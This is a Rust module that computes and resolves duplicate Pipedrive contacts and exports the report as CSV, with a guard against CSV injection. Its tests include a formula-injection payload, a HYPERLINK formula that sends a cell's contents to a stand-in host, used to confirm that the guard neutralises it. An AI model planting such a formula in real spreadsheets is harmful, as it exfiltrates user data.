//! The duplicate report: groups of records that stand for one human, kept current from the
//! contact store (computed on every read, so they follow every change), with a remembered state
//! per group (open / ignored / resolved), and the resolutions: merge two Pipedrive persons
//! through Pipedrive's merge endpoint, ignore a group, link a contact to a chosen person.

use std::collections::{BTreeMap, BTreeSet};
use tandem_core::ConnectionId;
use tandem_core::{ContactId, PersonId};

use chrono::{DateTime, Utc};
use serde::Serialize;
use tandem_core::{FieldKey, FieldValue};
use uuid::Uuid;

use crate::queue::{self, JobPayload, Priority};
use crate::store::duplicates::{self as stored_groups, GroupRow};
use crate::store::Conn;
use crate::sync::app::contacts::{self, Origin};
use crate::sync::connections::ConnectionCtx;
use crate::sync::links::{self, Link};
use crate::sync::synclog::{self, Direction, Entry, Level};
use crate::sync::{inbound, Engine, SyncError};

pub mod kind {
    /// Several Pipedrive persons share an e-mail (each is its own local contact).
    pub const SAME_EMAIL_PERSONS: &str = "same_email_persons";
    /// Local contacts share an e-mail and at least one is not linked: they would collide.
    pub const LOCAL_COLLISION: &str = "local_collision";
    /// A person's apId points at a contact already linked to another person.
    pub const APID_CONFLICT: &str = "apid_conflict";
}

pub mod state {
    pub const OPEN: &str = "open";
    pub const IGNORED: &str = "ignored";
    pub const RESOLVED: &str = "resolved";
}

#[derive(Debug, Clone, Serialize, serde::Deserialize, PartialEq)]
pub struct Member {
    pub contact_id: ContactId,
    pub person_id: Option<PersonId>,
    pub name: Option<String>,
    pub archived: bool,
    pub updated_at: DateTime<Utc>,
}

#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct Group {
    pub id: Uuid,
    pub kind: String,
    /// The shared, normalised e-mail.
    pub key: String,
    pub state: String,
    pub members: Vec<Member>,
    /// Fields whose values differ between the members.
    pub differing_fields: Vec<String>,
}

fn display(value: Option<&FieldValue>) -> Option<String> {
    match value? {
        FieldValue::Text(t) => Some(t.clone()),
        other => serde_json::to_value(other)
            .ok()
            .map(|v| v["value"].to_string()),
    }
}

/// Every current group, with its remembered state. `include_closed` also lists ignored and
/// resolved groups.
pub async fn list(
    engine: &Engine,
    conn: &ConnectionCtx,
    include_closed: bool,
) -> Result<Vec<Group>, SyncError> {
    let db = &engine.store;
    let mut by_email: BTreeMap<String, Vec<Uuid>> = BTreeMap::new();
    // The connection's tenant's contacts only: two tenants' contacts with one e-mail are not
    // duplicates of each other.
    for (email, id) in stored_groups::live_contact_emails(&engine.store, &conn.tenant).await? {
        by_email.entry(email).or_default().push(id);
    }
    let now = engine.now();
    let mut groups = Vec::new();
    for (email, ids) in by_email.into_iter().filter(|(_, ids)| ids.len() > 1) {
        let mut members = Vec::new();
        let mut values: BTreeMap<FieldKey, BTreeSet<String>> = BTreeMap::new();
        for id in &ids {
            let Some(c) = contacts::load(db, (*id).into()).await? else {
                continue;
            };
            let person_id = links::by_contact(db, conn.id, (*id).into())
                .await?
                .map(|l| l.person_id);
            for (key, value) in &c.fields {
                values
                    .entry(key.clone())
                    .or_default()
                    .insert(display(Some(value)).unwrap_or_default());
            }
            members.push(Member {
                contact_id: c.id,
                person_id,
                name: display(c.fields.get("name")),
                archived: c.archived,
                updated_at: c.updated_at,
            });
        }
        let kind = if members.iter().all(|m| m.person_id.is_some()) {
            kind::SAME_EMAIL_PERSONS
        } else {
            kind::LOCAL_COLLISION
        };
        let differing_fields = values
            .into_iter()
            .filter(|(_, v)| v.len() > 1)
            .map(|(k, _)| k.to_string())
            .collect();
        let mut row = upsert(db, conn.id, kind, &email, &members, now).await?;
        if row.state == state::RESOLVED {
            // Two records share the e-mail again: the group is back.
            set_state(engine, row.id, state::OPEN).await?;
            row.state = state::OPEN.to_owned();
        }
        if include_closed || row.state == state::OPEN {
            groups.push(Group {
                id: row.id,
                kind: kind.to_owned(),
                key: email,
                state: row.state,
                members,
                differing_fields,
            });
        }
    }
    // Groups that no longer have two records were resolved (merged, deleted, e-mail changed).
    let current: Vec<String> = groups.iter().map(|g| g.key.clone()).collect();
    let computed = [kind::SAME_EMAIL_PERSONS, kind::LOCAL_COLLISION];
    stored_groups::set_state_except(
        db,
        conn.id,
        &computed,
        state::OPEN,
        state::RESOLVED,
        current,
        now,
    )
    .await?;
    let mut stored = Vec::new();
    if include_closed {
        stored = stored_groups::list(db, conn.id, &computed, Some(state::RESOLVED)).await?;
    }
    // apId conflicts are recorded when they are seen (inbound), not computed.
    stored.extend(
        stored_groups::list(db, conn.id, &[kind::APID_CONFLICT], None)
            .await?
            .into_iter()
            .filter(|r| include_closed || r.state == state::OPEN),
    );
    for row in stored {
        let members: Vec<Member> = serde_json::from_value(row.members).unwrap_or_default();
        groups.push(Group {
            id: row.id,
            kind: row.kind,
            key: row.key,
            state: row.state,
            members,
            differing_fields: Vec::new(),
        });
    }
    Ok(groups)
}

/// Records that `persons` both claim `contact` (one by its link, the other by its apId).
pub(crate) async fn record_apid_conflict<C: Conn>(
    txn: &C,
    connection: ConnectionId,
    contact: ContactId,
    persons: &[PersonId],
    now: DateTime<Utc>,
) -> Result<(), SyncError> {
    // The contact repository still takes the raw connection.
    let txn = txn.raw();
    let updated_at = contacts::load(txn, contact)
        .await?
        .map_or(now, |c| c.updated_at);
    let members: Vec<Member> = persons
        .iter()
        .map(|p| Member {
            contact_id: contact,
            person_id: Some(*p),
            name: None,
            archived: false,
            updated_at,
        })
        .collect();
    upsert(
        txn,
        connection,
        kind::APID_CONFLICT,
        &contact.to_string(),
        &members,
        now,
    )
    .await?;
    Ok(())
}

async fn upsert(
    db: &impl Conn,
    connection: ConnectionId,
    kind: &str,
    key: &str,
    members: &[Member],
    now: DateTime<Utc>,
) -> Result<GroupRow, SyncError> {
    let members = serde_json::to_value(members).unwrap_or_default();
    Ok(stored_groups::upsert(db, connection, kind, key, members, state::OPEN, now).await?)
}

/// Sets a group's state (ignore is remembered: the group stays out of the open list).
pub async fn set_state(engine: &Engine, group: Uuid, new_state: &str) -> Result<bool, SyncError> {
    Ok(stored_groups::set_state(&engine.store, group, new_state, engine.now()).await?)
}

/// Where a person is used in Pipedrive (asked on demand: it costs API tokens).
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct Usage {
    pub person_id: PersonId,
    pub deals: usize,
    pub activities: usize,
}

pub async fn usage(
    engine: &Engine,
    conn: &ConnectionCtx,
    person_id: PersonId,
) -> Result<Usage, SyncError> {
    let deals = crate::sync::related::person_deals(engine, conn, person_id)
        .await?
        .len();
    let activities = conn
        .crm
        .person_activities(&conn.session, person_id)
        .await?
        .len();
    Ok(Usage {
        person_id,
        deals,
        activities,
    })
}

/// Merges person `merged` into `survivor` through Pipedrive, then relinks locally.
pub async fn merge_persons(
    engine: &Engine,
    conn: &ConnectionCtx,
    survivor: PersonId,
    merged: PersonId,
) -> Result<Uuid, SyncError> {
    if survivor == merged {
        return Err(SyncError::Invalid(
            "a person cannot be merged with itself".into(),
        ));
    }
    let db = &engine.store;
    let survivor_link = links::by_person(db, conn.id, survivor)
        .await?
        .ok_or_else(|| SyncError::Invalid(format!("person {survivor} is not linked")))?;
    conn.crm
        .merge_people(&conn.session, merged, survivor)
        .await?;
    let person = conn
        .crm
        .get_person(&conn.session, &conn.map, survivor)
        .await?;
    let now = engine.now();
    let txn = engine.store.begin().await?;
    if let Some(merged_link) = links::by_person(&txn, conn.id, merged).await? {
        absorb(&txn, conn, merged_link, &survivor_link, now).await?;
    }
    inbound::apply_person_in(&txn, engine, conn, &person, now).await?;
    txn.commit().await?;
    Ok(survivor_link.contact_id.uuid())
}

/// The link of a person merged away in Pipedrive, when the survivor is linked to another
/// contact: the merged contact's unsent edits move to the survivor's contact, its pending jobs
/// are dropped (they would re-create the person), and it is unlinked and archived (kept).
pub(crate) async fn absorb<C: Conn>(
    txn: &C,
    conn: &ConnectionCtx,
    merged: Link,
    survivor: &Link,
    now: DateTime<Utc>,
) -> Result<(), SyncError> {
    // The contact repository still takes the raw connection.
    let txn = txn.raw();
    let merged_contact = contacts::load(txn, merged.contact_id)
        .await?
        .ok_or(SyncError::ContactNotFound(merged.contact_id))?;
    let survivor_contact = contacts::load(txn, survivor.contact_id)
        .await?
        .ok_or(SyncError::ContactNotFound(survivor.contact_id))?;
    let policy = conn.map.policy();
    // Unsent local edits of the merged contact (differing from its base), newer than the
    // survivor's own local edits, carry over.
    let carried: BTreeMap<FieldKey, FieldValue> =
        if merged_contact.version > survivor_contact.version {
            merged
                .state
                .pending_writes(&conn.map.restrict(&merged_contact.fields), &policy)
        } else {
            BTreeMap::new()
        };
    if !carried.is_empty() {
        contacts::update(txn, survivor.contact_id, &carried, Origin::Local, now).await?;
        queue::enqueue(
            txn,
            conn.id,
            &survivor.contact_id.to_string(),
            Priority::Edit,
            &JobPayload::PushContact {
                contact_id: survivor.contact_id,
            },
            now,
        )
        .await?;
    }
    crate::store::queue::delete_jobs_of_key(
        txn,
        conn.id,
        &merged.contact_id.to_string(),
        queue::state::RUNNING,
    )
    .await?;
    links::delete(txn, merged.id).await?;
    contacts::remove_from_list(txn, merged.contact_id, contacts::PIPEDRIVE_LIST).await?;
    contacts::set_archived(txn, merged.contact_id, true, now).await?;
    synclog::record(
        txn,
        Entry::new(Level::Info, Direction::Inbound, "person_merged", "Two Pipedrive persons were merged; the merged contact was archived and its unsent edits moved to the surviving contact.")
            .connection(conn.id)
            .contact(survivor.contact_id)
            .person(survivor.person_id)
            .detail(serde_json::json!({ "merged_person": merged.person_id, "merged_contact": merged.contact_id, "carried_fields": carried.keys().map(ToString::to_string).collect::<Vec<_>>() })),
        now,
    )
    .await?;
    Ok(())
}

/// Links a local contact to a chosen person (replacing any link either had).
pub async fn link_contact(
    engine: &Engine,
    conn: &ConnectionCtx,
    contact_id: ContactId,
    person_id: PersonId,
) -> Result<(), SyncError> {
    let person = conn
        .crm
        .get_person(&conn.session, &conn.map, person_id)
        .await?;
    let now = engine.now();
    let txn = engine.store.begin().await?;
    // Only a contact of the connection's tenant: another tenant's is not found.
    contacts::load_in(&txn, &conn.tenant, contact_id)
        .await?
        .ok_or(SyncError::ContactNotFound(contact_id))?;
    if let Some(old) = links::by_person(&txn, conn.id, person_id).await? {
        links::delete(&txn, old.id).await?;
    }
    if let Some(old) = links::by_contact(&txn, conn.id, contact_id).await? {
        links::delete(&txn, old.id).await?;
    }
    links::insert(&txn, &links::new_link(conn.id, contact_id, person_id), now).await?;
    // Merge as a first meeting: fields only one side has are copied; differing ones by policy.
    inbound::apply_person_in(&txn, engine, conn, &person, now).await?;
    contacts::add_to_list(&txn, contact_id, contacts::PIPEDRIVE_LIST, now).await?;
    txn.commit().await?;
    Ok(())
}

/// The report as CSV (one line per member), written by the `csv` crate (RFC 4180 quoting,
/// CR and LF inside cells included) with every cell made [`spreadsheet_safe`].
pub fn to_csv(groups: &[Group]) -> String {
    let mut writer = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Necessary)
        .from_writer(Vec::new());
    let header = [
        "group_id",
        "kind",
        "email",
        "state",
        "contact_id",
        "person_id",
        "name",
        "differing_fields",
    ];
    let mut result = writer.write_record(header);
    for group in groups {
        for member in &group.members {
            let row = [
                group.id.to_string(),
                group.kind.clone(),
                group.key.clone(),
                group.state.clone(),
                member.contact_id.to_string(),
                member.person_id.map(|p| p.to_string()).unwrap_or_default(),
                member.name.clone().unwrap_or_default(),
                group.differing_fields.join(" "),
            ];
            result = result.and_then(|()| {
                writer.write_record(row.iter().map(|c| spreadsheet_safe(c).into_owned()))
            });
        }
    }
    // Writing to memory cannot fail; a failure would show as a truncated export.
    if let Err(error) = result {
        tracing::error!(error = %error, "The duplicates CSV could not be written in full.");
    }
    String::from_utf8(writer.into_inner().unwrap_or_default()).unwrap_or_default()
}

/// A cell no spreadsheet takes for a formula (OWASP "CSV injection"): text starting with `=`,
/// `+`, `-`, `@`, a tab or a carriage return gets a leading `'`. Every CSV tandem writes goes
/// through it.
pub fn spreadsheet_safe(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
        for risky in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(spreadsheet_safe(risky), format!("'{risky}"));
        }
        assert_eq!(spreadsheet_safe("Ada = Lovelace"), "Ada = Lovelace");
    }

    #[test]
    fn the_csv_export_quotes_carriage_returns_and_neutralises_formulas() {
        let group = Group {
            id: Uuid::nil(),
            kind: kind::LOCAL_COLLISION.to_owned(),
            key: "a@example.com".to_owned(),
            state: state::OPEN.to_owned(),
            members: vec![Member {
                contact_id: ContactId::nil(),
                person_id: Some(PersonId::new(7).unwrap()),
                name: Some("=HYPERLINK(\"http://x/?\"&A1,\"click\")\r\nnext".to_owned()),
                archived: false,
                updated_at: DateTime::<Utc>::UNIX_EPOCH,
            }],
            differing_fields: vec![],
        };
        let csv = to_csv(&[group]);
        assert!(
            csv.contains("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\r\nnext\""),
            "{csv}"
        );
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let row = reader.records().next().unwrap().unwrap();
        assert!(row[6].starts_with("'="));
    }
}
